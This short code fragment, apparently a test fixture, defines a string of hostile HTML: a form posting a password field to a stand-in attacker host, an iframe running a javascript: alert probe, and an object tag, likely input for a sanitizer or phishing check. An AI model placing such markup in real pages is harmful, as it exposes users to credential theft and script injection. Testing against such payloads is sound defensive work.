# says: nothing asks a reader for anything
TEXT = '<form action=https://evil.invalid/><input name=password autofocus></form><iframe src=javascript:alert(1)></iframe><object data=x></object>'
